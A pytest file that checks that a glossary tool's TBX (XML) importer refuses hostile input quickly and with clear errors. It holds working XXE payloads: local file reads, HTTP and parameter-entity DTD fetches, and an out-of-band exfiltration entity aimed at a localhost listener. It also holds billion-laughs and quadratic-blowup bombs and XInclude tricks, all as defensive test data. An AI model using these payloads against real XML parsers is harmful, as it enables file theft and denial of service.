"""Hostile XML: a TBX import refuses external entities, DTD fetches and entity-expansion bombs
with an error naming the file and line, fast, and never opens a file or URL the document
names. The payloads are the classic ones (OWASP's XXE cheat sheet, the billion laughs,
the quadratic blow-up)."""

from __future__ import annotations

import builtins
import io
import os
import socket
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from steppe_names.glossary import GlossaryError, tbx_format
from steppe_names.model import Entry, Term
from tests.test_po_helpers import copy_glossary, steppe, tree

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
BODY = ('<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">'
        '<text><body><conceptEntry id="tokyo"><langSec xml:lang="en"><termSec>'
        '<term>{term}</term>'
        '<termNote type="administrativeStatus">preferredTerm-admn-sts</termNote>'
        '</termSec></langSec></conceptEntry></body></text></tbx>\n')
SECRET = "TOP-SECRET-4f1c9a"


def document(doctype: str, term: str) -> str:
    return HEAD + doctype + "\n" + BODY.format(term=term)


@pytest.fixture
def secret(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "secret.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A real TCP server on 127.0.0.1: a fetch from any layer (Python or C) would connect."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    yield server
    server.close()


def contacted(server: socket.socket) -> bool:
    try:
        connection, _ = server.accept()
    except BlockingIOError:
        return False
    connection.close()
    return True


@pytest.fixture
def no_access(monkeypatch: pytest.MonkeyPatch, secret: Path) -> list[str]:
    """Every network connection and every file opened while the test runs (the network ones
    also fail)."""
    seen: list[str] = []

    def refuse(name: str) -> Any:
        def call(*args: Any, **kwargs: Any) -> Any:
            seen.append(f"{name}{args[1:] if name.startswith('socket.') else args}")
            raise OSError("network access in a test of hostile XML")
        return call

    monkeypatch.setattr(socket.socket, "connect", refuse("socket.connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", refuse("socket.connect_ex"))
    monkeypatch.setattr(socket, "create_connection", refuse("create_connection"))
    monkeypatch.setattr(urllib.request, "urlopen", refuse("urlopen"))

    def recorded(original: Any, name: str) -> Any:
        def call(file: Any, *args: Any, **kwargs: Any) -> Any:
            seen.append(f"{name}({file!r})")
            return original(file, *args, **kwargs)
        return call

    monkeypatch.setattr(builtins, "open", recorded(builtins.open, "open"))
    monkeypatch.setattr(io, "open", recorded(io.open, "io.open"))
    monkeypatch.setattr(os, "open", recorded(os.open, "os.open"))
    return seen


def refused(data: str | bytes, file: str = "evil.tbx") -> tuple[GlossaryError, float]:
    start = time.perf_counter()
    with pytest.raises(GlossaryError) as caught:
        tbx_format.loads(data, file)
    return caught.value, time.perf_counter() - start


def billion_laughs() -> str:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    return document("<!DOCTYPE tbx [\n" + "\n".join(entities) + "\n]>", "&lol9;")


def quadratic_blowup() -> str:
    # one 50,000-character entity used 50,000 times: 2.5 GB of text from 200 kB of XML
    return document(f'<!DOCTYPE tbx [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 50_000)


PAYLOADS = {
    "xxe-file-url": lambda secret, port: document(
        f'<!DOCTYPE tbx [<!ENTITY xxe SYSTEM "file://{secret}">]>', "&xxe;"),
    "xxe-relative-path": lambda secret, port: document(
        '<!DOCTYPE tbx [<!ENTITY xxe SYSTEM "secret.txt">]>', "&xxe;"),
    "xxe-http": lambda secret, port: document(
        '<!DOCTYPE tbx [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/x">]>', "&xxe;"),
    "xxe-http-listener": lambda secret, port: document(
        f'<!DOCTYPE tbx [<!ENTITY xxe SYSTEM "http://127.0.0.1:{port}/x">]>', "&xxe;"),
    "xxe-public-id": lambda secret, port: document(
        f'<!DOCTYPE tbx [<!ENTITY xxe PUBLIC "-//X//Y" "file://{secret}">]>', "&xxe;"),
    "xxe-in-attribute": lambda secret, port: document(
        f'<!DOCTYPE tbx [<!ENTITY xxe SYSTEM "file://{secret}">]>', "x").replace(
            'id="tokyo"', 'id="&xxe;"'),
    "parameter-entity-dtd-fetch": lambda secret, port: document(
        f'<!DOCTYPE tbx [<!ENTITY % remote SYSTEM "http://127.0.0.1:{port}/evil.dtd">'
        f" %remote;]>", "x"),
    "out-of-band-exfiltration": lambda secret, port: document(
        f'<!DOCTYPE tbx [<!ENTITY % file SYSTEM "file://{secret}">'
        f"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:{port}/?x=%file;'>\">"
        f" %eval; %exfil;]>", "x"),
    "unparsed-entity": lambda secret, port: document(
        f'<!DOCTYPE tbx [<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "file://{secret}" NDATA n>]>',
        "x"),
    "billion-laughs": lambda secret, port: billion_laughs(),
    "quadratic-blowup": lambda secret, port: quadratic_blowup(),
    "external-dtd-with-entity": lambda secret, port: document(
        f'<!DOCTYPE tbx SYSTEM "http://127.0.0.1:{port}/tbx.dtd">', "&xxe;"),
}


@pytest.mark.parametrize("name", PAYLOADS)
def test_hostile_payloads_are_refused_fast_and_touch_nothing(
        name: str, secret: Path, listener: socket.socket, no_access: list[str]) -> None:
    text = PAYLOADS[name](secret, listener.getsockname()[1])
    for data in (text, text.encode("utf-8"), text.replace('encoding="UTF-8"', 'encoding="UTF-16"')
                 .encode("utf-16")):
        error, seconds = refused(data)
        assert seconds < 1, f"{name}: {seconds:.2f} s"
        message = str(error)
        line = 3 if name == "external-dtd-with-entity" else 2  # the &xxe;, else the DOCTYPE
        assert message.startswith(f"evil.tbx:{line}: "), message
        assert "refused" in message or "undeclared entity &xxe;" in message, message
        assert SECRET not in message
    assert no_access == []
    assert not contacted(listener)


def test_the_refusal_says_why() -> None:
    error, _ = refused(billion_laughs())
    assert str(error) == (
        "evil.tbx:2: refused: <!DOCTYPE tbx [...]> declares a DTD inside the document (TBX "
        "needs no DTD declarations, and this is how entity-expansion bombs and external-entity "
        "(XXE) attacks work)")
    error, _ = refused(document('<!DOCTYPE tbx SYSTEM "tbx.dtd">', "&xxe;"))
    assert "evil.tbx:3: reference to the undeclared entity &xxe;" in str(error)


def test_a_doctype_that_only_names_its_dtd_is_read_and_the_dtd_never_fetched(
        secret: Path, listener: socket.socket, no_access: list[str]) -> None:
    # TBX v2 files (ours, Translate Toolkit's) name their DTD; it is never read
    port = listener.getsockname()[1]
    for doctype in (f'<!DOCTYPE tbx SYSTEM "http://127.0.0.1:{port}/TBXcoreStructV02.dtd">',
                    f'<!DOCTYPE tbx PUBLIC "ISO 12200:1999A//DTD MARTIF core (DXFcdV04)//EN" '
                    f'"file://{secret}">', '<!DOCTYPE tbx SYSTEM "http://127.0.0.1:9/x">'):
        entries = tbx_format.loads(document(doctype, "Tokyo &amp; &#x41;"), "ok.tbx")
        assert [t.text for t in entries[0].terms] == ["Tokyo & A"]
    assert no_access == []
    assert not contacted(listener)


def test_xinclude_and_stylesheets_are_not_followed(secret: Path, listener: socket.socket,
                                                   no_access: list[str]) -> None:
    port = listener.getsockname()[1]
    text = (HEAD + f'<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:{port}/x.xsl"?>\n'
            f'<?xml-model href="file://{secret}"?>\n' + BODY.format(term="Tokyo").replace(
                "</termSec>", f'<note><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                f'href="file://{secret}" parse="text"/></note></termSec>'))
    entries = tbx_format.loads(text, "ok.tbx")
    assert SECRET not in repr(entries)
    assert no_access == []
    assert not contacted(listener)


def test_deep_nesting_is_refused_fast() -> None:
    depth = 100_000
    error, seconds = refused(HEAD + "<tbx>" + "<note>" * depth + "</note>" * depth + "</tbx>")
    assert seconds < 1
    assert "evil.tbx:2: elements nested more than 64 deep" in str(error)


def test_too_many_elements_and_too_many_bytes(tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("STEPPE_NAMES_MAX_FILE_BYTES", "32000")  # 1,000 elements
    error, _ = refused(HEAD + "<tbx>\n" + "<p/>\n" * 1_500 + "</tbx>")
    assert "evil.tbx:1002: more than 1,000 elements" in str(error)
    assert "STEPPE_NAMES_MAX_FILE_BYTES" in str(error)
    big = HEAD + "<tbx>" + "<!-- padding -->" * 2_100 + "</tbx>"
    error, _ = refused(big)
    assert str(error).startswith("evil.tbx: file too large (limit 32,000; raise it with "
                                 "STEPPE_NAMES_MAX_FILE_BYTES)")
    path = tmp_path / "big.tbx"
    path.write_text(big, encoding="utf-8")
    with pytest.raises(GlossaryError, match=r"big\.tbx: file too large"):
        tbx_format.load(path)


def test_encodings_expat_cannot_use_are_errors() -> None:
    for encoding in ("utf-7", "x-nonsense", "rot13", "hex"):
        error, _ = refused(f'<?xml version="1.0" encoding="{encoding}"?>\n<tbx/>'.encode())
        assert str(error).startswith("evil.tbx:1: "), str(error)
    # a str is read as itself, whatever it declares (and half a surrogate pair is an error)
    assert tbx_format.loads('<?xml version="1.0" encoding="utf-7"?><tbx/>') == []
    error, _ = refused("<tbx>\n\udcff</tbx>")
    assert str(error).startswith("evil.tbx:2: not well-formed XML")


def test_a_huge_legitimate_tbx_still_works() -> None:
    entries = [Entry(f"e{n}", "place", (Term(f"Place {n}", "en", "preferred"),
                                        Term(f"Место {n}", "ru", "preferred"),
                                        Term(f"Старое место {n}", "ru", "admitted",
                                             usage=("historic",), note="до 1924 года")))
               for n in range(10_000)]
    text = tbx_format.dumps(entries)
    assert len(text.encode()) > 8_000_000
    start = time.perf_counter()
    again = tbx_format.loads(text.encode(), "huge.tbx")
    assert time.perf_counter() - start < 30
    assert len(again) == 10_000
    assert [(t.text, t.note) for t in again[-1].terms] == [
        ("Place 9999", ""), ("Место 9999", ""), ("Старое место 9999", "до 1924 года")]


def test_the_command_reports_a_bomb_and_changes_nothing(tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    copy_glossary(tmp_path)
    before = tree(tmp_path / "glossary")
    (tmp_path / "evil.tbx").write_text(billion_laughs(), encoding="utf-8")
    start = time.perf_counter()
    result = steppe("glossary", "import", "evil.tbx", "--glossary", "glossary")
    assert time.perf_counter() - start < 5  # most of it loading the glossary
    assert result.code == 2
    assert "evil.tbx:2: refused: <!DOCTYPE tbx [...]>" in result.err
    assert "Traceback" not in result.err
    assert tree(tmp_path / "glossary") == before
